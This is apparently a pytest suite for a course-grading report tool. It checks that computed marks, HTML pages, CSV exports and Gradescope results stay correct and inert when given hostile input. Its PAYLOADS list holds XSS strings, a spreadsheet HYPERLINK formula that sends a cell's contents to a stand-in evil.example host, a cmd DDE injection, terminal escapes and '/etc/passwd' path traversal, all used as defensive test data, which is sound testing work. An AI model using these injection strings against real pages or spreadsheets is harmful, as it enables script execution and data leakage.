"""Reports: right numbers, inert text, valid exports, merged folders."""

import base64
import csv
import io
import json
import os
import re
import subprocess
import sys
from contextlib import nullcontext
from hashlib import sha256
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest

from gdm_course.grading.judge.judge import unjudged
from gdm_course.grading.judge.verdict import Mark, Result, Status, restore, store
from gdm_course.grading.marks import exports, figures, inert, pages
from gdm_course.grading.marks.collect import Entry, collect
from gdm_course.grading.marks.gradebook import NoGradebook, enter
from gdm_course.grading.marks.ledger import Handed, Ledger, NoResults, keep
from gdm_course.grading.marks.merge import merge, save
from gdm_course.grading.marks.report import report
from gdm_course.publishing import browser
from gdm_course.source import ROOT

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a href='javascript:alert(1)'>x</a></svg>",
    '"><iframe src="http://evil.example/"></iframe>',
    "' onmouseover='alert(1)",
    "</title></style><script>alert(1)</script>",
    "<!-- ]]> --><base href=http://evil.example/>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "javascript:alert(1)",
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example>",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    '";=1+1',
    "\x1b[31mred\x1b]8;;http://evil.example\x07x\x1b[2J",
    "a\u202efdp.ipynb",
    "\u2066\u2069\u200b\ufeff\u00ad",
    "nul\x00nul",
    "\ud800\udcff",
    "\u2028\u2029\x85",
    "z" + "\u0301" * 300,
    "\U000e0041\U0001f3f4\ue000",
    "../../../etc/passwd",
    "x" * 300,
    "",
]
INVISIBLE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f]"
)
POINTS = {"first": 2, "second": 3}


def result(
    text: str,
    *earned: float,
    unit: str = "flows/maf",
    status: Status = Status.GRADED,
    fingerprint: str = "now",
    rung: str = "L3",
    seed: int = 1,
    message: str = "not near",
) -> Result:
    marks = tuple(
        Mark(name, points, got, status, "right" if got else message)
        for (name, points), got in zip(POINTS.items(), earned)
    )
    key = sha256(text.encode("utf-8", "surrogatepass")).hexdigest()
    return Result(key, unit, fingerprint, status, "", marks, rung, seed, 1, 1.5, 200)


def folder(place: Path, results: dict[str, Result], refused: dict | None = None) -> Path:
    place.mkdir(parents=True, exist_ok=True)
    for one in results.values():
        store(one, place)
    names = {name: one.sha256 for name, one in results.items()}
    write_index(names, refused or {}, place)
    return place


def write_index(names: dict[str, str], refused: dict[str, str], place: Path) -> None:
    files = {name: Handed(name, why=why) for name, why in refused.items()}
    keep(Ledger({**files, **{n: Handed(n, key=key) for n, key in names.items()}}), place)


def hostile(place: Path) -> Path:
    """Payloads wherever text can be: names, messages, units, questions."""
    results = {}
    for i, text in enumerate(PAYLOADS):
        mark = Mark(text, 2.0, 0.0, Status.GRADED, text)
        key = sha256(bytes([i])).hexdigest()
        results[text or "empty"] = Result(
            key, text, text, Status.GRADED, text, (mark,), text
        )
    return folder(place, results, {f"refused{text}": text for text in PAYLOADS})


def read_csv(path: Path) -> list[dict]:
    text = path.read_bytes().decode("utf-8-sig")
    return [*csv.DictReader(io.StringIO(text, newline=""), strict=True)]


# Numbers ----------------------------------------------------------------------------------


def test_tables_say_what_the_verdicts_say(tmp_path):
    lost = {"carl.ipynb": "f" * 64}
    place = folder(
        tmp_path,
        {
            "ann/maf.ipynb": result("a", 2, 0),
            "bob.ipynb": result("b", 0, 0, status=Status.TIMEOUT),
            "eve.ipynb": Result("e" * 64, "", "", Status.MALFORMED, "an empty file"),
        },
    )
    index = json.loads((place / "index.json").read_text())
    write_index({**index["submissions"], **lost}, {"dan.ipynb": "a link"}, place)
    report(place)
    ann, bob, carl, dan, eve = read_csv(place / "marks.csv")
    assert (ann["student"], ann["earned"], ann["points"]) == ("ann", "2", "5")
    assert (ann["flows/maf:first"], ann["flows/maf:second"]) == ("2", "0")
    assert (bob["status"], bob["earned"], bob["points"]) == ("timeout", "0", "5")
    assert (carl["status"], carl["earned"]) == ("not graded", ""), "no mark is not a zero"
    assert (dan["status"], dan["earned"], dan["message"]) == ("malformed", "", "a link")
    assert (eve["status"], eve["earned"]) == ("malformed", "")
    questions = [
        (q["student"], q["question"], q["result"])
        for q in read_csv(place / "questions.csv")
    ]
    assert questions == [
        ("ann", "first", "right"),
        ("ann", "second", "wrong"),
        ("bob", "first", "timeout"),
        ("bob", "second", "timeout"),
    ]


def svg(markup: str) -> ElementTree.Element:
    return ElementTree.fromstring(markup)


NAMESPACE = "{http://www.w3.org/2000/svg}"


def test_a_histogram_counts_every_submission_once():
    """0 and 100 % are in the first and last bar; a share on an edge is in the upper bar."""
    shares = [(0, 0), (2, 0), (2, 0), (0, 3), (2, 3), (2, 3)]  # 0, .4, .4, .6, 1, 1
    entries = [Entry(str(i), result(str(i), *s)) for i, s in enumerate(shares)]
    bars = svg(figures.histogram(entries)).findall(f"{NAMESPACE}rect")
    places = [round((float(bar.get("x")) - 43) / 60) for bar in bars]
    heights = [float(bar.get("height")) for bar in bars]
    assert places == [0, 4, 6, 9]
    assert heights == [65, 130, 65, 130]


def test_the_bar_of_a_question_adds_up():
    entries = [Entry("a", result("a", 2, 0)), Entry("b", result("b", 2, 3))]
    entries.append(Entry("c", result("c", 0, 0, status=Status.CRASH)))
    drawn = svg(figures.questions(entries))
    rects = [
        r
        for r in drawn.findall(f"{NAMESPACE}rect")
        if r.find(f"{NAMESPACE}title") is not None
    ]
    titles = [r.findtext(f"{NAMESPACE}title") for r in rects]
    assert titles == ["right: 2", "crash: 1", "right: 1", "wrong: 1", "crash: 1"]
    widths = [float(r.get("width")) for r in rects]
    assert sum(widths[:2]) == pytest.approx(sum(widths[2:]), abs=0.3)
    assert widths[0] == pytest.approx(2 * widths[1], abs=0.3)
    assert {"67 %", "33 %"} <= {t.text for t in drawn.findall(f"{NAMESPACE}text")}


def test_colours_are_those_of_the_house():
    look = pytest.importorskip("gdm_course.figure_style", reason="no matplotlib here")
    own = {look.BLUE, look.ORANGE, look.RED, look.BLACK, look.PURPLE, figures.GREY}
    assert {*figures.KINDS.values()} == own


# Inert text -------------------------------------------------------------------------------


class Reader(HTMLParser):
    """What a browser would make of a page: elements, attributes, text."""

    def __init__(self, page: str):
        super().__init__()
        self.elements, self.texts = [], []
        self.feed(page)

    def handle_starttag(self, name, attributes):
        self.elements.append((name, dict(attributes)))

    def handle_data(self, data):
        self.texts.append(data)


HARMLESS = "html head meta style title body h1 h2 h3 p strong code table thead tbody tr th"
HARMLESS += " td a svg rect line text footer"
ALLOWED = {"lang", "charset", "http-equiv", "content", "name", "class", "href", "xmlns"}
ALLOWED |= {"role", "aria-label", "viewbox", "width", "height", "fill"}
ALLOWED |= {"font-family", "font-size", "x", "y", "x1", "x2", "y1", "y2"}
ALLOWED |= {"stroke", "stroke-width", "text-anchor"}


def harmless(page: str) -> list[str]:
    """What in a page is neither plain structure nor a link to a page of ours."""
    bad = [m[0] for m in [INVISIBLE.search(page)] if m]
    for name, attributes in Reader(page).elements:
        bad += [name] * (name not in HARMLESS.split())
        bad += [key for key in attributes if key not in ALLOWED]
        link = attributes.get("href", "pages/" + "0" * 24 + ".html")
        bad += [link] * (not re.fullmatch(r"pages/[0-9a-f]{24}\.html", link))
    return bad


def test_pages_are_inert(tmp_path):
    place = hostile(tmp_path)
    report(place)
    written = [place / "class.html", *(place / "pages").glob("*.html")]
    assert len(written) == 1 + 2 * len(PAYLOADS)
    for path in written:
        assert harmless(path.read_text(encoding="utf-8")) == []


def test_the_test_above_would_notice():
    page = pages.student(Entry("x", result("x", 2, 0)))
    assert harmless(page) == []
    for payload in PAYLOADS[:2] + ["<a href='javascript:x'>", "<p onclick=x>", "\u202e"]:
        assert harmless(page.replace("flows/maf", payload)) != []


def test_text_arrives_as_text(tmp_path):
    page = pages.student(Entry(PAYLOADS[0], result("x", 0, 0, message=PAYLOADS[1])))
    texts = Reader(page).texts
    assert PAYLOADS[0] in texts
    assert PAYLOADS[1] in texts


def test_the_policy_allows_the_style_and_nothing_else():
    page = pages.overview([Entry("x", result("x", 2, 0))])
    policy = dict(
        rule.strip().split(" ", 1)
        for rule in re.search(r'Policy" content="([^"]*)"', page)[1].split(";")
    )
    style = re.search("<style>(.*?)</style>", page, re.DOTALL)[1]
    digest = base64.b64encode(sha256(style.encode()).digest()).decode()
    assert policy["default-src"] == "'none'"
    assert policy["style-src"] == f"'sha256-{digest}'"
    assert policy["base-uri"] == policy["form-action"] == "'none'"
    assert page.index("Content-Security-Policy") < page.index("<style>")
    assert "http:" not in page.replace("http://www.w3.org/2000/svg", "")


@pytest.mark.browser
@pytest.mark.skipif(not browser.chromium(), reason="no chromium found on PATH")
def test_a_browser_runs_and_fetches_nothing(tmp_path):
    place = hostile(tmp_path)
    report(place)
    said = []
    with browser.page() as (page, log):
        page.on("dialog", lambda dialog: said.append(dialog.message))
        page.on("console", lambda message: said.append(message.text))
        page.goto((place / "class.html").as_uri())
        assert page.locator("tbody tr").count() > len(PAYLOADS)
        assert page.locator("h1").evaluate("e => getComputedStyle(e).fontSize") == "24px"
    assert (log.outside, log.errors, said) == ([], [], [])


def test_no_cell_is_a_formula(tmp_path):
    place = hostile(tmp_path)
    report(place)
    for name in ("marks.csv", "questions.csv"):
        raw = (place / name).read_bytes().decode("utf-8-sig")
        assert INVISIBLE.search(raw.replace("\r\n", "")) is None
        rows = [*csv.reader(io.StringIO(raw, newline=""), strict=True)]
        assert len({len(row) for row in rows}) == 1, "a payload broke out of its cell"
        for cell in (cell for row in rows for cell in row):
            assert not re.match(r"\s*[=+\-@\t\r\n|\uff1d\uff0b\uff0d\uff20]", cell), cell


def test_a_negative_number_stays_a_number():
    assert inert.cell(-1.5) == -1.5
    assert inert.cell("-1.5") == "'-1.5"
    assert inert.cell(None) == ""


def test_everything_shown_is_visible():
    assert inert.shown("a\u202eb\x00\x1b[1m\ud800") == r"a\u202eb\u0000\u001b[1m\ud800"
    assert inert.shown("Jürgen Μαρία") == r"Jürgen \u039c\u03b1\u03c1\u03af\u03b1"
    assert inert.shown("Μαρία Παπαδοπούλου") == "Μαρία Παπαδοπούλου"
    assert inert.shown("山田 太郎") == "山田 太郎"
    assert inert.shown("аlice") != inert.shown("alice"), "Cyrillic а in a Latin name"
    assert len(inert.shown("x" * 300)) <= inert.SHOWN
    assert inert.shown("x" * 200 + "1") != inert.shown("x" * 200 + "2")
    assert len(inert.shown("z" + "\u0301" * 90)) <= 3


def test_names_never_become_paths(tmp_path):
    """Whatever files are called, reports lie where they should, one for each."""
    names = ["../../up.ipynb", "/etc/passwd", "a" * 300, "CON", "x/../../y", "a\x00b", "a"]
    names += ["A", "ａ", "а"]  # upper case, full width, Cyrillic
    inside = tmp_path / "deep" / "out"
    report(folder(inside, {name: result(name, 2, 0) for name in names}))
    assert [*tmp_path.iterdir()] == [tmp_path / "deep"]
    assert [*(tmp_path / "deep").iterdir()] == [inside]
    found = {path.name for path in (inside / "pages").iterdir()}
    assert len(found) == len(names)
    assert all(re.fullmatch(r"[0-9a-f]{24}\.html", name) for name in found)


def test_a_page_shows_nothing_of_others_and_no_seed(tmp_path):
    ann = result("ann", 2, 0, seed=987_654_321)
    place = folder(tmp_path, {"ann.ipynb": ann, "bob.ipynb": ann})
    report(place)
    own = Entry("ann.ipynb").key
    for path in (f"pages/{own}.html", f"gradescope/{own}/results.json"):
        text = (place / path).read_text()
        assert "bob" not in text
        assert "987654321" not in text


def test_marks_without_isolation_are_labelled():
    entry = Entry("x", result("x", 2, 3, rung="L0", status=Status.UNSANDBOXED))
    assert pages.UNSANDBOXED in pages.student(entry)
    assert pages.UNSANDBOXED in pages.overview([entry])
    assert "without isolation" in json.loads(exports.gradescope(entry))["output"]


def test_pages_of_names_that_are_gone_go_too(tmp_path):
    place = folder(tmp_path, {"a.ipynb": result("a", 2, 0), "b.ipynb": result("b", 2, 0)})
    report(place)
    (place / "pages" / "mine.txt").write_text("kept")
    report(folder(place, {"b.ipynb": result("b", 2, 0)}))
    left = {path.name for path in (place / "pages").iterdir()}
    assert left == {f"{Entry('b.ipynb').key}.html", "mine.txt"}
    assert len([*(place / "gradescope").iterdir()]) == 1


@pytest.mark.parametrize(
    "text",
    ["", "[]", '{"submissions": []}', '{"submissions": {"a": "../x"}, "refused": {}}'],
)
def test_an_index_that_is_none_of_ours(tmp_path, text):
    (tmp_path / "index.json").write_text(text)
    with pytest.raises(NoResults, match="no index of results"):
        collect(tmp_path)


# Gradescope -------------------------------------------------------------------------------

VISIBLE = {"hidden", "after_due_date", "after_published", "visible"}
FORMATS = {"text", "html", "simple_format", "md", "ansi"}


def valid(found: dict) -> None:
    """Gradescope's documentation, "Autograder specifications", as assertions."""
    assert ("score" in found) == ("tests" in found), "a mark, or nothing like one"
    assert type(found.get("score", 0)) in (int, float)
    assert type(found["execution_time"]) in (int, float)
    assert found["visibility"] in VISIBLE
    assert found["stdout_visibility"] in VISIBLE
    for key in ("output_format", "test_output_format", "test_name_format"):
        assert found[key] in FORMATS
    known = {"score", "execution_time", "output", "output_format", "test_output_format"}
    known |= {"test_name_format", "visibility", "stdout_visibility", "extra_data", "tests"}
    assert {*found} <= known | {"leaderboard"}
    for test in found.get("tests", []):
        assert type(test["score"]) in (int, float)
        assert 0 <= test["score"] <= test["max_score"]
        assert test["status"] in {"passed", "failed"}
        assert test["visibility"] in VISIBLE
        assert {test["name_format"], test["output_format"]} == {"text"}
        assert all(type(test[key]) is str for key in ("name", "number", "output"))
        known = {"score", "max_score", "status", "name", "name_format", "number"}
        assert {*test} <= known | {"output", "output_format", "tags", "visibility"}


def test_gradescope_gets_what_it_documents(tmp_path):
    place = hostile(tmp_path)
    report(place)
    written = [*place.glob("gradescope/*/results.json")]
    assert len(written) == 2 * len(PAYLOADS)
    for path in written:
        found = json.loads(path.read_text())
        valid(found)
        shown = [
            found["output"],
            *(t["output"] + t["name"] for t in found.get("tests", [])),
        ]
        assert not any(INVISIBLE.search(text) for text in shown)


def test_gradescope_gets_the_marks():
    found = json.loads(exports.gradescope(Entry("x", result("x", 2, 0))))
    valid(found)
    assert found["score"] == 2
    assert found["score"] == sum(test["score"] for test in found["tests"])
    assert [t["status"] for t in found["tests"]] == ["passed", "failed"]
    assert [t["max_score"] for t in found["tests"]] == [2, 3]


NO_MARK = {
    "refused": (Entry("y", None, "an empty file"), "malformed"),
    "rejected": (Entry("y", Result("0" * 64, "", "", Status.MALFORMED, "x")), "malformed"),
    "a judge that failed": (Entry("y", unjudged("0" * 64, "flows/maf", "x")), "unjudged"),
    "not graded": (Entry("y"), "not graded"),
}


@pytest.mark.parametrize("kind", NO_MARK)
def test_no_mark_is_no_zero_anywhere(kind):
    """Gradescope asks for a score or for tests; without both, nothing can pass for one."""
    entry, status = NO_MARK[kind]
    found = json.loads(exports.gradescope(entry))
    valid(found)
    assert not {"score", "tests"} & {*found}
    assert status in found["output"]
    assert "this is not a 0" in found["output"]
    head, row = csv.reader(io.StringIO(exports.marks([entry]).removeprefix(exports.BOM)))
    line = dict(zip(head, row))
    assert (line["earned"], line["points"], line["status"]) == ("", "", status)
    assert len(exports.questions([entry]).splitlines()) == 1
    assert "points</strong>" not in pages.student(entry)


def test_a_zero_is_a_zero():
    found = json.loads(exports.gradescope(Entry("x", result("x", 0, 0))))
    valid(found)
    assert found["score"] == 0


# nbgrader ---------------------------------------------------------------------------------

READ_BACK = """
import sys
from pathlib import Path
from gdm_course.grading.marks.collect import collect
from gdm_course.grading.marks.gradebook import enter
out, db = map(Path, sys.argv[1:])
print(*enter(collect(out), db), sep="\\n")
from nbgrader.api import Gradebook
with Gradebook(f"sqlite:///{db}") as book:
    for s in book.assignment_submissions("flows-maf"):
        cells = [(g.name, g.auto_score) for n in s.notebooks for g in n.grades]
        print(s.student.id, s.score, s.max_score, s.needs_manual_grade, sorted(cells))
"""


def nbgrader_python() -> str:
    """An interpreter that has nbgrader: this one, GDM_NBGRADER, or /tmp/nbg."""
    given = [os.environ.get("GDM_NBGRADER", ""), "/tmp/nbg/bin/python", sys.executable]
    for python in filter(os.path.exists, given):
        code = "import nbgrader.api"
        if subprocess.run([python, "-c", code], capture_output=True).returncode == 0:
            return python
    pytest.skip("nbgrader is not installed: name a python that has it in GDM_NBGRADER")


def test_marks_reach_an_nbgrader_gradebook(tmp_path):
    python = nbgrader_python()
    results = {"ann/maf.ipynb": result("a", 2, 0), "bob.ipynb": result("b", 2, 3)}
    results["eve.ipynb"] = Result("e" * 64, "", "", Status.MALFORMED, "an empty file")
    place, db = folder(tmp_path / "out", results), tmp_path / "gradebook.db"

    def lines() -> list[str]:
        command = [python, "-W", "ignore", "-c", READ_BACK, str(place), str(db)]
        done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
        return done.stdout.splitlines()

    first = lines()
    assert first[0] == "not entered, malformed: eve.ipynb"
    cells = "[('check-first', 2.0), ('check-second', 0.0)]"
    assert f"ann 2.0 5.0 False {cells}" in first
    folder(place, {**results, "ann/maf.ipynb": result("a", 0, 3)})  # regraded
    assert "ann 3.0 5.0 False [('check-first', 0.0), ('check-second', 3.0)]" in lines()


LOCKED = """
import sqlite3, sys
from pathlib import Path
from gdm_course.grading.marks.collect import collect
from gdm_course.grading.marks.gradebook import NoGradebook, enter
out, db = map(Path, sys.argv[1:])
[*enter(collect(out), db)]
other = sqlite3.connect(db)
other.execute("BEGIN EXCLUSIVE")  # somebody has it open, and writes
try:
    [*enter(collect(out), db)]
except NoGradebook as error:
    print(error)
"""


def test_a_gradebook_that_somebody_else_writes_to_is_one_sentence(tmp_path):
    python = nbgrader_python()
    place = folder(tmp_path / "out", {"ann/maf.ipynb": result("a", 2, 0)})
    command = [python, "-W", "ignore", "-c", LOCKED, place, tmp_path / "gradebook.db"]
    done = subprocess.run([*map(str, command)], cwd=ROOT, capture_output=True, text=True)
    assert done.stdout.endswith("gradebook.db is no gradebook: database is locked\n")
    assert "Traceback" not in done.stderr


def test_a_gradebook_that_takes_no_marks_is_one_sentence(tmp_path, monkeypatch):
    class Refused(Exception):
        __module__, orig = "sqlalchemy.exc", "attempt to write a readonly database"

    def refuse(*_):
        raise Refused

    monkeypatch.setattr(
        "gdm_course.grading.marks.gradebook._open", lambda path: nullcontext()
    )
    monkeypatch.setattr("gdm_course.grading.marks.gradebook._prepare", refuse)
    with pytest.raises(NoGradebook, match="takes no marks: attempt to write a readonly"):
        [*enter([Entry("x", result("x", 2, 0))], tmp_path / "gradebook.db")]


def test_without_nbgrader_one_sentence_says_so(tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "nbgrader.api", None)
    with pytest.raises(NoGradebook, match="pip install nbgrader"):
        [*enter([], tmp_path / "gradebook.db")]
    assert [*tmp_path.iterdir()] == []


# Merging ----------------------------------------------------------------------------------


def now(unit: str) -> str:
    return "now"


def test_shares_of_an_array_job_become_one(tmp_path):
    """Every index names all files, each folder has the verdicts of its share."""
    every = {f"s{i}.ipynb": result(str(i), 2, 0) for i in range(5)}
    names = {name: one.sha256 for name, one in every.items()}
    parts = []
    for i in range(2):
        share = dict([*every.items()][i::2])
        parts.append(folder(tmp_path / str(i), share))
        write_index(names, {"z.ipynb": "a link"}, parts[-1])
    save(merge(parts, now), tmp_path / "all")
    report(tmp_path / "all")
    found = {row["file"]: row["earned"] for row in read_csv(tmp_path / "all" / "marks.csv")}
    assert found == {**dict.fromkeys(every, "2"), "z.ipynb": ""}
    assert len(read_csv(tmp_path / "all" / "conflicts.csv")) == 0


BETTER = [
    ("another version", {"fingerprint": "now"}, {"fingerprint": "old"}),
    ("isolation", {}, {"rung": "L0", "status": Status.UNSANDBOXED}),
    ("broken", {}, {"status": Status.CRASH, "seed": 2}),
]


@pytest.mark.parametrize(("why", "good", "bad"), BETTER, ids=[b[0] for b in BETTER])
@pytest.mark.parametrize("swapped", [False, True])
def test_the_better_verdict_wins_in_any_order(tmp_path, why, good, bad, swapped):
    better, worse = result("x", 2, 0, **good), result("x", 2, 3, **bad)
    places = [folder(tmp_path / "a", {"x": better}), folder(tmp_path / "b", {"x": worse})]
    merged = merge(places[:: -1 if swapped else 1], now)
    save(merged, tmp_path / "all")
    assert restore(tmp_path / "all" / f"{better.sha256}.json") == better
    (listed,) = read_csv(tmp_path / "all" / "conflicts.csv")
    assert listed["name or SHA-256"] == better.sha256
    assert "2 of 5" in listed["kept"]
    assert "5 of 5" in listed["dropped"]


def test_two_seeds_are_a_conflict_and_the_first_folder_wins(tmp_path):
    first, second = result("x", 2, 0, seed=1), result("x", 2, 3, seed=2)
    places = [folder(tmp_path / "a", {"x": first}), folder(tmp_path / "b", {"x": second})]
    assert merge(places, now).verdicts[first.sha256][0] == first
    merged = merge(places[::-1], now)
    assert merged.verdicts[first.sha256][0] == second
    assert merged.conflicts[0][3] == "graded twice, under two seeds"
    assert merge([places[0], places[0]], now).conflicts == []


def test_one_name_with_two_files_keeps_both(tmp_path):
    one, two = result("1", 2, 0), result("2", 2, 3)
    places = [folder(tmp_path / "a", {"x": one}), folder(tmp_path / "b", {"x": two})]
    merged = merge(places, now)
    assert merged.names == {"x": one.sha256, "x (2)": two.sha256}
    assert merged.conflicts[0][3] == "one name, different files"
    again = merge([*places, places[1]], now)
    assert again.names == merged.names
    assert len(again.conflicts) == 1


def test_a_file_is_judged_by_what_could_read_it(tmp_path):
    a = folder(tmp_path / "a", {}, {"x": "too many links"})
    b = folder(tmp_path / "b", {"x": result("x", 2, 0)})
    merged = merge([a, b], now)
    assert (merged.refused, [*merged.names]) == ({}, ["x"])
    assert merged.conflicts[0][2] == "too many links"


def test_verdicts_under_a_wrong_name_are_not_taken(tmp_path):
    place = folder(tmp_path / "a", {"x": result("x", 2, 0)})
    (place / f"{'0' * 64}.json").write_text(
        (place / f"{result('x').sha256}.json").read_text()
    )
    (place / f"{'1' * 64}.json").write_text("{")
    merged = merge([place], now)
    assert [*merged.verdicts] == [result("x").sha256]
    assert len(merged.conflicts) == 2


def test_a_merge_does_not_mix_with_other_results(tmp_path):
    a, b = (folder(tmp_path / n, {n: result(n, 2, 0)}) for n in "ab")
    with pytest.raises(NoResults, match="other verdicts"):
        save(merge([a], now), b)
    save(merge([a, b], now), b)
    assert {entry.name for entry in collect(b)} == {"a", "b"}
    (tmp_path / "file").touch()
    for other in (tmp_path, tmp_path / "nothing", tmp_path / "file"):
        with pytest.raises(NoResults, match=r"no index\.json"):
            merge([a, other], now)
